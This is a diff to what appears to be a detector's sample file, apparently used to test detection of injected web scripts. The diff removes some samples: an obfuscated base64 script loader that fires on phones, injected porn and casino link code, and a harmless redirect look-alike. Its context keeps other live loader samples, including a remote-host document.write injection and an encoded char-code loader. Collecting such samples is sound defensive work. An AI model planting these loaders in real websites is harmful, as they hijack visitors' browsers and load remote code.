@@ -35,44 +35,6 @@ var _$=['\x3c\x53\x43\x52\x49\x50\x54\x20\x73\x72\x63\x3d\x22\x68\x74\x74\x70\x3
 # only change.
 AG_JS = r"""document.writeln("<script src=\'https://js.kk.mo.cn/jquery.web.js\'><\/script>");"""
 
-# S9 - jQuery prepend of porn/casino app links into #contentlist (public repository file, complete)
-APPBOX = r"""
-var url = location.href;
-function shuffle(arr){
-  var len = arr.length;
-  for(var i = 0; i < len - 1; i++){
-    var idx = Math.floor(Math.random() * (len - i));
-    var temp = arr[idx];
-    arr[idx] = arr[len - i - 1];
-    arr[len - i -1] = temp;
-  }
-  return arr;
-}
-$('#contentlist').prepend('<div class="appbox" style="margin-top:5px;"></div>');
-var arrapp = ['<a href="https://qqhjo.com/?dc=sqt00071" target="_blank">麻豆传媒APP</a>',
-				  '<a href="https://7lil9i.com/?dc=bsqt34" target="_blank">逼哩逼哩视频APP</a>',
-				  '<a href="https://35z.cc/?channelCode=rrdyfl" target="_blank">软软成人直播APP</a>',
-				  '<a href="https://ch2m1moj.com/?_c=offl1mh" target="_blank">51成漫APP</a>',
-				  '<a href="https://91gi2ce0.com/?ch=offl2cy" target="_blank">91次元成漫APP</a>',
-				  '<a href="https://luoyanglu.com/?TT9" target="_blank">陌陌视频APP</a>',
-				  '<a href="https://zhuren7.top/?channelCode=dsxk_5" target="_blank">大神成人直播APP</a>',
-				  '<a href="https://0922p.com:8663/?register=1" target="_blank">澳门新葡京</a>'];
-$.each(shuffle(arrapp),function(index,value){
-     $('.appbox').append(' '+value);
-});
-
-var arr = [{"link":"https://0922p.com:8663/?register=1","img":"https://zigqnx.com/7c074f52e0cd47dfae17913688a7efea.gif"},{"link":"https://bibo127.com:32060","img":"https://u0062.com/231069b81e194cdab50d36d5fa128ae7.gif"},{"link":"https://bibo127.com:32060","img":"https://u0062.com/231069b81e194cdab50d36d5fa128ae7.gif"},{"link":"https://v2770.com:8663","img":"https://unmrjz.com/32157458f0e0451888a88f499edcdeae.gif"},{"link":"https://v2770.com:8663","img":"https://unmrjz.com/32157458f0e0451888a88f499edcdeae.gif"},{"link":"https://v2770.com:8663","img":"https://unmrjz.com/32157458f0e0451888a88f499edcdeae.gif"},{"link":"https://x9428.com:5443?register=1","img":"https://3337253.com/6e349f605baf4877b74bb6a6852899ce.gif"},{"link":"https://x9428.com:5443?register=1","img":"https://3337253.com/6e349f605baf4877b74bb6a6852899ce.gif"},{"link":"https://6883t.com:8663/?register=1","img":"https://3338613.com/727a44e1dcef4bd9b84a4cdc6fdea9c1.gif"},{"link":"https://4481v.com:8663?register=1","img":"https://3335663.com/71e7f01c46ea4b22bb73b571f488b00b.gif"},{"link":"https://7895p.com:8663/?register=1","img":"https://3332025.com/b3839fc1a4e04ced9551b1adbf90e78b.gif"}];
-
-var x = Math.round(Math.random()*arr.length);
-
-if(url.indexOf('search')>0 || url.indexOf('content')>0)
-{
-	
-	$('#contentlist').prepend('<a href="'+arr[x].link+'" style="margin-top:15px;" rel="external nofollow" target="_blank"><img src="'+arr[x].img+'" style="width:100%;max-height:200px;"></a>');
-	
-}
-""".strip("\n")
-
 # S10 - char-code document.write loader (public repository file: the generated payload,
 # quoted there in a comment; the loader line verbatim)
 CHARCODE = "document.write(String.fromCharCode(60,115,67,82,105,80,116,32,115,82,67,61,47,47,104,107,46,115,98,47,121,55,120,120,62,60,47,115,67,114,73,112,84,62));"
@@ -87,16 +49,6 @@ var _hmt = _hmt || [];
   var s = document.getElementsByTagName("script")[0]; 
   s.parentNode.insertBefore(hm, s);
 })();
-""".strip("\n")
-
-# S14 - a site's own mobile redirect by user agent (common hand-written form; written here,
-# not captured - a harmless look-alike of the UA checks above)
-MOBILE_REDIRECT = r"""
-if (/Android|webOS|iPhone|iPod|BlackBerry|Windows Phone/i.test(navigator.userAgent)) {
-    if (window.location.href.indexOf('?pc') < 0) {
-        window.location.href = window.location.href.replace('://www.', '://m.');
-    }
-}
 """.strip("\n")
 
 # S15 - Baidu's published link-submit push snippet (the genuine form S7 imitates)
@@ -114,14 +66,6 @@ BAIDU_PUSH = """<script>
     s.parentNode.insertBefore(bp, s);
 })();
 </script>"""
-
-# S16 - base64 + UTF-8 decoder loader appended to a video-CMS template's history js (public
-# repository file; the appended part verbatim from "function xxSJRox" to the trailing
-# /*138ae887806f*/ marker). Defines window.MfXKwV, calls it when navigator.platform is not
-# Mac/Win (phones), then traps devtools with a debugger loop. Decodes to a look-alike
-# code.jquery.com path.
-XXSJROX = r"""function xxSJRox(e){var t = "",n = r = c1 = c2 = 0;while (n < e.length){r = e.charCodeAt(n);if (r < 128){t += String.fromCharCode(r);n++}else if (r > 191 && r < 224){c2 = e.charCodeAt(n + 1);t += String.fromCharCode((r & 31) << 6 | c2 & 63);n += 2}else{c2 = e.charCodeAt(n + 1);c3 = e.charCodeAt(n + 2);t += String.fromCharCode((r & 15) << 12 | (c2 & 63) << 6 | c3 & 63);n += 3}}return t}function aPnDhiTia(e){var m = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var t = "",n,r,i,s,o,u,a,f = 0;e = e.replace(/[^A-Za-z0-9+/=]/g,"");while (f < e.length){s = m.indexOf(e.charAt(f++));o = m.indexOf(e.charAt(f++));u = m.indexOf(e.charAt(f++));a = m.indexOf(e.charAt(f++));n = s << 2 | o >> 4;r = (o & 15) << 4 | u >> 2;i = (u & 3) << 6 | a;t = t + String.fromCharCode(n);if (u != 64){t = t + String.fromCharCode(r)}if (a != 64){t = t + String.fromCharCode(i)}}return xxSJRox(t)}eval('window')['\x4d\x66\x58\x4b\x77\x56'] = function(){;(function(u,r,w,d,f,c){var x = aPnDhiTia;u = decodeURIComponent(x(u.replace(new RegExp(c + '' + c,'g'),c)));'jQuery';k = r[2] + 'c' + f[1];'Flex';v = k + f[6];var s = d.createElement(v + c[0] + c[1]),g = function(){};s.type = 'text/javascript';{s.onload = function(){g()}}s.src = u;'CSS';d.getElementsByTagName('head')[0].appendChild(s)})('aHR0cHM6Ly9jb2RlLmpxdWVyeS5jb20vanF1ZXJ5Lm1pbi0zLjYuOC5qcw==','FgsPmaNtZ',window,document,'jrGYBsijJU','ptbnNbK')};if (!(/^Mac|Win/.test(navigator.platform))) MfXKwV();setInterval(function(){debugger;},100);
-/*138ae887806f*/"""
 
 # S17 - a site's own lazy-load helper with the same loader family appended after it (public
 # repository file, complete, verbatim). Fires on phones (platform not Mac/Win) arriving from
